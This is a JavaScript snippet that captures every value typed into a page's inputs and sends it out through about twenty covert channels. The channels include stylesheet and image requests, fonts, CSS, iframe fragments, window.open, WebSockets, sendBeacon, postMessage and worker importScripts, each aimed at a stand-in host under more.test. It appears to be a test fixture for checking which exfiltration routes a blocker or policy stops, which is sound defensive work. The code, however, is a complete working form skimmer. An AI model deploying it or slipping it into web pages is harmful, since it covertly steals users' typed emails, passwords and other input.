// Ways out by elements, styles, frames and odd bodies, each to a host of its own.
{
  const to = (name) => `http://${name}.more.test`;
  const query = (mail) => `m=${encodeURIComponent(mail)}`;
  const bytesOf = (text) => new TextEncoder().encode(text);
  const add = (name, attributes) => {
    const made = Object.assign(document.createElement(name), attributes);
    document.body.append(made);
    return made;
  };
  const post = (name, body, more = {}) =>
    fetch(`${to(name)}/c`, { method: "POST", mode: "no-cors", body, ...more }).catch(() => {});
  const inFrame = (name, then) => {
    const frame = add("iframe", { src: `${to(name)}/quiet` });
    frame.onload = () => {
      frame.onload = null;
      then(frame.contentWindow);
    };
  };

  const ways = {
    link: (mail) => add("link", { rel: "stylesheet", href: `${to("link")}/s.css?${query(mail)}` }),
    srcset: (mail) => add("img", { srcset: `${to("srcset")}/p.png?${query(mail)} 1x` }),
    video: (mail) => add("video", { src: `${to("video")}/p.mp4?${query(mail)}`, preload: "auto" }),
    object: (mail) => add("object", { data: `${to("object")}/quiet?${query(mail)}` }),
    markup: (mail) =>
      document.body.insertAdjacentHTML(
        "beforeend",
        `<img src="${to("markup")}/p.gif?${query(mail)}">`,
      ),
    sheet: (mail) =>
      add("style", {}).sheet.insertRule(
        `body::after { content: url("${to("sheet")}/p.png?${query(mail)}") }`,
      ),
    font: (mail) =>
      void new FontFace("x", `url("${to("font")}/f.woff2?${query(mail)}")`).load().catch(() => {}),
    // What stands behind the # goes to no server, but to whoever's page it is.
    fragment: (mail) => add("iframe", { src: `${to("fragment")}/quiet#${query(mail)}` }),
    moved: (mail) =>
      inFrame("moved", (frame) => {
        frame.location = `${to("moved")}/quiet#${query(mail)}`;
      }),
    opened: (mail) => void open(`${to("opened")}/quiet#${query(mail)}`, "opened"),
    anchor: (mail) => {
      const href = `${to("anchor")}/quiet#${query(mail)}`;
      add("a", { href, target: "anchor", textContent: "go" }).click();
    },
    request: (mail) =>
      fetch(new Request(`${to("request")}/c`, { method: "POST", mode: "no-cors", body: mail })),
    file: (mail) => {
      const form = new FormData();
      form.append("f", new File([JSON.stringify({ mail })], "a.json"));
      return post("file", form);
    },
    segment: (mail) => {
      const form = new FormData();
      form.append("event", "{}");
      form.append("segment", new Blob([bytesOf(JSON.stringify({ mail }))]), "film");
      navigator.sendBeacon(`${to("segment")}/c`, form);
    },
    stream: (mail) => {
      const start = (stream) => {
        stream.enqueue(bytesOf(`mail=${mail}`));
        stream.close();
      };
      return post("stream", new ReadableStream({ start }), { mode: "cors", duplex: "half" });
    },
    protocol: (mail) =>
      new WebSocket(to("protocol").replace("http", "ws"), [btoa(mail).replaceAll("=", "")]),
    framed: (mail) => {
      const socket = new WebSocket(to("framed").replace("http", "ws"));
      socket.onopen = () => socket.send(new Blob([JSON.stringify({ mail })]));
    },
    buffer: (mail) =>
      inFrame("buffer", (frame) => {
        const { buffer } = bytesOf(mail);
        frame.postMessage(buffer, { targetOrigin: "*", transfer: [buffer] });
      }),
    borrowed: (mail) => {
      const { contentWindow } = add("iframe", { src: "about:blank" });
      contentWindow.fetch(`${to("borrowed")}/c`, { method: "POST", mode: "no-cors", body: mail });
    },
    imported: (mail) => {
      const code = `importScripts("${to("imported")}/m.js?${query(mail)}")`;
      new Worker(URL.createObjectURL(new Blob([code])));
    },
  };

  let timer;
  document.addEventListener("input", ({ target }) => {
    clearTimeout(timer);
    timer = setTimeout(() => {
      for (const [name, way] of Object.entries(ways)) {
        try {
          way(target.value);
        } catch (error) {
          document.title += ` ${name}: ${error}`;
        }
      }
    }, 250);
  });
}
